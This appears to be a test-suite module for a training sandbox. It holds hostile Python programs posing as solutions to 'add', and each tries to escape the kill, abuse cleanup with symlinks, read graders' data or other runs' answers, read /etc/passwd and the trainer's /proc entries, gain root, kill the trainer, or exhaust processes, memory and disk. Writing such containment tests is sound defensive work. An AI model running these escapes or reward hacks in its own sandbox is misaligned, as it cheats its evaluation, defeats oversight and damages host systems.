@@ -1,0 +1,537 @@
+"""The hostile programs: each is a would-be solution of ``add`` that cheats, escapes, hoards or breaks things.
+
+Where an attack can be seen from inside, the program answers ``add`` correctly only if the attack worked, so a
+score of 0 is the proof that it was contained; the other attacks answer wrongly whatever happens, and the suite
+checks what they tried to leave behind (processes, changed files, a poisoned slot, a failed batch).
+
+Placeholders, filled in by the suite: VICTIMS (the victims' folder), SAMPLE (the packaged data set), PROJECT (this
+source tree), VENV (the trainer's environment), TRAINER_PID, DISK_MB, MAX_FILES, MEMORY_MB.
+"""
+
+from __future__ import annotations
+
+from dataclasses import dataclass
+
+
+@dataclass(frozen=True)
+class Hostile:
+    """One hostile program: its name, the issue's threat class it belongs to, and its source."""
+
+    name: str
+    threat: str
+    source: str
+    slow: bool = False
+
+
+# Looks up the expected output of its own inputs in a JSONL data set, if it can read one.
+_LOOKUP = """
+import json
+def _lookup(path, args):
+    with open(path) as handle:
+        for line in handle:
+            for test in json.loads(json.loads(line)['tests']):
+                if test.get('input') == list(args):
+                    return test['output']
+"""
+
+ESCAPES = [
+    Hostile("escape_setpgid_child", "1 escape from the wall-time kill", """
+import os, time
+if os.fork() == 0:
+    os.setpgid(0, 0)
+    time.sleep(120)
+    os._exit(0)
+time.sleep(120)
+"""),
+    Hostile("escape_setpgid_self", "1 escape from the wall-time kill", """
+import os, time
+os.setpgid(0, 0)
+for _ in range(3):
+    if os.fork() == 0:
+        time.sleep(120)
+        os._exit(0)
+time.sleep(120)
+"""),
+    Hostile("escape_clear_parent_death_signal", "1 escape from the wall-time kill", """
+import ctypes, os, signal, time
+libc = ctypes.CDLL(None)
+libc.prctl(1, 0, 0, 0, 0)  # PR_SET_PDEATHSIG 0
+for sig in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
+    signal.signal(sig, signal.SIG_IGN)
+os.setpgid(0, 0)
+if os.fork() == 0:
+    os.setsid()
+    libc.prctl(1, 0, 0, 0, 0)
+    time.sleep(120)
+time.sleep(120)
+"""),
+    Hostile("escape_at_the_cpu_limit", "1 escape from the CPU-time kill", """
+import os, time
+if os.fork() == 0:
+    os.setsid()
+    time.sleep(120)
+    os._exit(0)
+while True:
+    pass
+"""),
+    Hostile("daemon_outlives_a_quick_exit", "1 escape after a normal exit", """
+import os, signal, time
+if os.fork() == 0:
+    os.setsid()
+    if os.fork() == 0:
+        signal.signal(signal.SIGHUP, signal.SIG_IGN)
+        time.sleep(120)
+    os._exit(0)
+def add(a, b):
+    return None
+"""),
+    Hostile("escaped_children_fill_the_process_limit", "1 poisoned slot", """
+import os, time
+if os.fork() == 0:
+    os.setpgid(0, 0)
+    while True:
+        try:
+            if os.fork() == 0:
+                time.sleep(120)
+                os._exit(0)
+        except OSError:
+            break
+    time.sleep(120)
+    os._exit(0)
+time.sleep(120)
+"""),
+]
+
+CLEANUP = [
+    Hostile("cleanup_follows_a_swapped_symlink", "2 cleanup reaches outside", """
+import os, time
+os.setpgid(0, 0)
+work = os.getcwd()
+folders = [f'{work}/d{i}' for i in range(40)]
+if os.fork() == 0:
+    while True:
+        for folder in folders:
+            try:
+                if os.path.islink(folder):
+                    os.unlink(folder)
+                    os.mkdir(folder)
+                    open(folder + '/last.ckpt', 'w').close()
+                else:
+                    os.unlink(folder + '/last.ckpt')
+                    os.rmdir(folder)
+                    os.symlink('VICTIMS/runs/exp/checkpoints', folder)
+            except OSError:
+                try:
+                    os.makedirs(folder, exist_ok=True)
+                except OSError:
+                    pass
+time.sleep(120)
+"""),
+    Hostile("links_to_victims_left_behind", "2 cleanup reaches outside", """
+import os
+os.symlink('VICTIMS/runs/exp/checkpoints', 'ckpt_dir')
+os.symlink('VICTIMS/runs/exp/checkpoints/last.ckpt', 'ckpt_file')
+os.symlink('VICTIMS/runs', '/tmp/runs')
+for name in ('a', 'a/b', 'a/b/c'):
+    os.mkdir(name)
+open('a/b/c/f', 'w').write('x')
+os.symlink('VICTIMS', 'a/b/c/victims')
+try:
+    os.link('VICTIMS/runs/exp/checkpoints/last.ckpt', 'hard')
+except OSError:
+    pass
+os.chmod('a/b', 0)
+os.chmod('a', 0o100)
+def add(a, b):
+    return None
+"""),
+    Hostile("deep_directories", "4 one completion fails the batch", """
+import os
+for _ in range(1500):
+    os.mkdir('d')
+    os.chdir('d')
+open('f', 'w').write('x')
+def add(a, b):
+    return None
+"""),
+    Hostile("mounts_over_its_view", "2 cleanup reaches outside", """
+import ctypes
+libc = ctypes.CDLL(None, use_errno=True)
+ok = libc.mount(b'none', b'/tmp', b'tmpfs', 0, None) == 0
+ok = ok or libc.mount(b'VICTIMS', b'.', None, 4096, None) == 0
+def add(a, b):
+    return a + b if ok else None
+"""),
+]
+
+READING = [
+    Hostile("reads_the_packaged_data_set", "3 reward hacking by reading", _LOOKUP + """
+def add(a, b):
+    return _lookup('SAMPLE', (a, b))
+"""),
+    Hostile("reads_the_users_data_set", "3 reward hacking by reading", _LOOKUP + """
+def add(a, b):
+    return _lookup('VICTIMS/data/train.jsonl', (a, b))
+"""),
+    Hostile("searches_the_disk_for_data_sets", "3 reward hacking by reading", _LOOKUP + """
+import os, time
+found = []
+deadline = time.monotonic() + 1.5
+for top in ('/tmp', '/work', '/home', '/root', '/srv', '/data', '/mnt', '/opt', '/'):
+    for folder, subfolders, files in os.walk(top):
+        subfolders[:] = [s for s in subfolders if s not in ('proc', 'sys', '.git', 'site-packages')]
+        found += [os.path.join(folder, f) for f in files if f.endswith('.jsonl')]
+        if found or time.monotonic() > deadline:
+            break
+    if found or time.monotonic() > deadline:
+        break
+def add(a, b):
+    for path in found:
+        try:
+            answer = _lookup(path, (a, b))
+        except Exception:
+            continue
+        if answer is not None:
+            return answer
+"""),
+    Hostile("copies_a_concurrent_siblings_solution", "3 reward hacking by reading", """
+import glob, os, time
+theirs = None
+deadline = time.monotonic() + 1.5
+while theirs is None and time.monotonic() < deadline:
+    candidates = glob.glob('/tmp/gspo-sandbox-*/work/solution.py') + glob.glob('/tmp/*/work/solution.py')
+    for path in candidates:
+        if os.path.dirname(path) != os.getcwd():
+            try:
+                theirs = open(path).read()
+                break
+            except OSError:
+                pass
+    time.sleep(0.02)
+namespace = {}
+if theirs and 'time.sleep' not in theirs.split('def add')[-1]:
+    exec(theirs.replace('time.sleep(0.6)', ''), namespace)
+def add(a, b):
+    return namespace['add'](a, b) if 'add' in namespace else None
+"""),
+    Hostile("reads_etc_passwd", "3 reading the host", """
+try:
+    ok = 'root:' in open('/etc/passwd').read()
+except OSError:
+    ok = False
+def add(a, b):
+    return a + b if ok else None
+"""),
+    Hostile("reads_the_project_source", "3 reading the host", """
+import os
+try:
+    ok = 'CodeTests' in open('PROJECT/gspo_lightning/rewards/code.py').read()
+except OSError:
+    ok = False
+ok = ok or os.path.exists('PROJECT/README.md')
+def add(a, b):
+    return a + b if ok else None
+"""),
+    Hostile("reads_the_virtual_environment", "3 reading the host", """
+import os, sys
+ok = os.path.isdir('VENV/lib') or any('site-packages' in p and os.path.isdir(p) and os.listdir(p) for p in sys.path)
+def add(a, b):
+    return a + b if ok else None
+"""),
+    Hostile("reads_the_trainers_proc_entries", "3 reading the host", """
+ok = False
+for path in ('/proc/TRAINER_PID/cmdline', '/proc/TRAINER_PID/environ', '/proc/1/cmdline'):
+    try:
+        ok = ok or len(open(path, 'rb').read()) > 0
+    except OSError:
+        pass
+def add(a, b):
+    return a + b if ok else None
+"""),
+]
+
+OUTPUTS = [
+    Hostile("reports_a_5000_digit_integer", "4 hostile output", """
+import os
+os.write(1, ('{"test": 0, "result": ' + '9' * 5000 + '}\\n').encode())
+os._exit(0)
+"""),
+    Hostile("reports_100k_nested_brackets", "4 hostile output", """
+import os
+os.write(1, b'{"test": 0, "result": ' + b'[' * 100000 + b'}\\n')
+os._exit(0)
+"""),
+    Hostile("reports_invalid_utf8", "4 hostile output", """
+import os
+os.write(1, b'\\xff\\xfe{"test": 0, "result": "\\xc3\\x28"}\\n\\x80\\x80\\n')
+os._exit(0)
+"""),
+    Hostile("writes_binary_garbage", "4 hostile output", """
+import os, random
+random.seed(0)
+os.write(1, bytes(random.getrandbits(8) for _ in range(300000)))
+os._exit(0)
+"""),
+    Hostile("writes_megabytes", "4 hostile output", """
+import os
+line = b'{"test": 0, "result": ' + b'1' * 1000 + b'}\\n'
+for _ in range(40000):
+    os.write(1, line)
+"""),
+    Hostile("reports_nan_and_infinity", "4 hostile output", """
+import os
+os.write(1, b'{"test": 0, "result": NaN}\\n{"test": 1, "result": Infinity}\\n{"test": 2, "result": 1e999}\\n')
+os._exit(0)
+"""),
+    Hostile("returns_a_deeply_nested_value", "4 hostile output", """
+def add(a, b):
+    value = []
+    for _ in range(100000):
+        value = [value]
+    return value
+"""),
+]
+
+MEMORY = [
+    Hostile("children_each_below_the_memory_limit", "5 memory per run", """
+import os, time
+children, pipes = [], []
+for _ in range(6):
+    read, write = os.pipe()
+    pid = os.fork()
+    if pid == 0:
+        block = bytearray(200 * 2**20)
+        for i in range(0, len(block), 4096):
+            block[i] = 1
+        os.write(write, b'1')
+        time.sleep(30)
+        os._exit(0)
+    children.append(pid)
+    pipes.append(read)
+held = sum(len(os.read(fd, 1)) for fd in pipes)
+ok = held * 200 > MEMORY_MB
+def add(a, b):
+    return a + b if ok else None
+""", slow=True),
+    Hostile("memfds_hoard_memory_outside_the_address_space", "5 memory per run", """
+import os
+chunk = b'x' * 2**20
+held = []
+try:
+    for i in range(30):
+        fd = os.memfd_create(f'hoard{i}', 0)
+        for _ in range(15):
+            os.write(fd, chunk)
+        held.append(fd)
+except OSError:
+    pass
+ok = len(held) * 15 > MEMORY_MB
+def add(a, b):
+    return a + b if ok else None
+""", slow=True),
+    Hostile("nested_user_namespace", "5 nested user namespaces", """
+import ctypes
+libc = ctypes.CDLL(None, use_errno=True)
+ok = libc.unshare(0x10000000) == 0  # CLONE_NEWUSER
+def add(a, b):
+    return a + b if ok else None
+"""),
+    Hostile("tmpfs_in_a_nested_user_namespace", "5 memory per run", """
+import ctypes, os
+libc = ctypes.CDLL(None, use_errno=True)
+written = 0
+uid, gid = os.getuid(), os.getgid()
+if libc.unshare(0x10000000 | 0x00020000) == 0:  # CLONE_NEWUSER | CLONE_NEWNS
+    for name, text in (('setgroups', 'deny'), ('uid_map', f'0 {uid} 1'), ('gid_map', f'0 {gid} 1')):
+        try:
+            with open(f'/proc/self/{name}', 'w') as handle:
+                handle.write(text)
+        except OSError:
+            pass
+    os.makedirs('m', exist_ok=True)
+    if libc.mount(b'none', b'm', b'tmpfs', 0, b'size=2g') == 0:
+        chunk = b'x' * 2**20
+        for i in range(MEMORY_MB // 8 + 8):
+            with open(f'm/f{i}', 'wb') as handle:
+                for _ in range(8):
+                    handle.write(chunk)
+                    written += 1
+ok = written > MEMORY_MB
+def add(a, b):
+    return a + b if ok else None
+"""),
+]
+
+NETWORK = [
+    Hostile("talks_to_a_host_unix_socket", "6 host sockets", """
+import socket
+try:
+    s = socket.socket(socket.AF_UNIX)
+    s.settimeout(1)
+    s.connect('VICTIMS/victim.sock')
+    ok = s.recv(4) == b'pong'
+except OSError:
+    ok = False
+def add(a, b):
+    return a + b if ok else None
+"""),
+    Hostile("talks_to_loopback_tcp", "6 network", """
+import socket
+try:
+    socket.create_connection(('127.0.0.1', 22), timeout=1)
+    ok = True
+except OSError:
+    ok = False
+def add(a, b):
+    return a + b if ok else None
+"""),
+]
+
+DISK = [
+    Hostile("fills_the_disk_below_the_file_size_limit", "7 disk bytes", """
+import os
+chunk = b'x' * 2**20
+written = 0
+try:
+    for i in range(3 * DISK_MB // 8 + 1):
+        with open(f'f{i}', 'wb') as handle:
+            for _ in range(8):
+                handle.write(chunk)
+                written += 1
+except OSError:
+    pass
+ok = written > DISK_MB
+def add(a, b):
+    return a + b if ok else None
+"""),
+    Hostile("fills_tmp", "7 disk bytes", """
+import os
+chunk = b'x' * 2**20
+written = 0
+try:
+    for i in range(3 * DISK_MB // 8 + 1):
+        with open(f'/tmp/f{i}', 'wb') as handle:
+            for _ in range(8):
+                handle.write(chunk)
+                written += 1
+except OSError:
+    pass
+ok = written > DISK_MB
+def add(a, b):
+    return a + b if ok else None
+"""),
+    Hostile("creates_too_many_files", "7 file count", """
+import os
+made = 0
+try:
+    for i in range(MAX_FILES + 500):
+        open(f'f{i}', 'w').close()
+        made += 1
+except OSError:
+    pass
+ok = made > MAX_FILES
+def add(a, b):
+    return a + b if ok else None
+"""),
+]
+
+MORE = [
+    Hostile("inherited_descriptors", "more: leaks into the program", """
+import os
+ok = False
+for fd in range(3, 256):
+    try:
+        os.fstat(fd)
+        ok = True
+    except OSError:
+        pass
+def add(a, b):
+    return a + b if ok else None
+"""),
+    Hostile("keyring_outlives_the_run", "more: state shared between runs", """
+import ctypes
+libc = ctypes.CDLL(None, use_errno=True)
+KEY_SPEC_USER_KEYRING = -4
+ok = libc.syscall(248, b'user', b'gspo-note', b'x', 1, KEY_SPEC_USER_KEYRING) > 0  # add_key
+def add(a, b):
+    return a + b if ok else None
+"""),
+    Hostile("ptraces_its_init", "more: privilege", """
+import ctypes, os
+libc = ctypes.CDLL(None, use_errno=True)
+ok = libc.ptrace(16, os.getppid(), None, None) == 0 or libc.ptrace(16, 1, None, None) == 0  # PTRACE_ATTACH
+def add(a, b):
+    return a + b if ok else None
+"""),
+    Hostile("becomes_root", "more: privilege", """
+import os
+try:
+    os.setuid(0)
+    ok = True
+except OSError:
+    ok = False
+def add(a, b):
+    return a + b if ok else None
+"""),
+    Hostile("raises_its_limits", "more: privilege", """
+import resource
+ok = False
+for limit in (resource.RLIMIT_NPROC, resource.RLIMIT_AS, resource.RLIMIT_CPU, resource.RLIMIT_FSIZE):
+    soft, hard = resource.getrlimit(limit)
+    try:
+        resource.setrlimit(limit, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
+        ok = ok or hard != resource.RLIM_INFINITY
+    except (ValueError, OSError):
+        pass
+def add(a, b):
+    return a + b if ok else None
+"""),
+    Hostile("signals_everyone", "more: the trainer", """
+import os, signal
+for pid in (os.getppid(), 1, 0, -1, TRAINER_PID):
+    try:
+        os.kill(pid, signal.SIGKILL)
+    except OSError:
+        pass
+def add(a, b):
+    return None
+"""),
+    Hostile("writes_outside_its_folder", "more: files", """
+ok = False
+for path in ('VICTIMS/drop/escaped', '/tmp/gspo-escaped', 'PROJECT/escaped', 'VICTIMS/runs/exp/checkpoints/last.ckpt'):
+    try:
+        open(path, 'a').write('x')
+        ok = True
+    except OSError:
+        pass
+def add(a, b):
+    return a + b if ok else None
+"""),
+    Hostile("joins_another_cgroup", "more: caps", """
+import glob, os
+ok = False
+for path in glob.glob('/sys/fs/cgroup/**/cgroup.procs', recursive=True)[:50]:
+    try:
+        open(path, 'w').write(str(os.getpid()))
+        ok = True
+    except OSError:
+        pass
+def add(a, b):
+    return a + b if ok else None
+"""),
+    Hostile("fork_bomb", "more: processes", """
+import os
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
+"""),
+    Hostile("memory_bomb", "more: memory", """
+blocks = []
+while True:
+    blocks.append(bytearray(50 * 2**20))
+"""),
+]
+
+ALL = ESCAPES + CLEANUP + READING + OUTPUTS + MEMORY + NETWORK + DISK + MORE
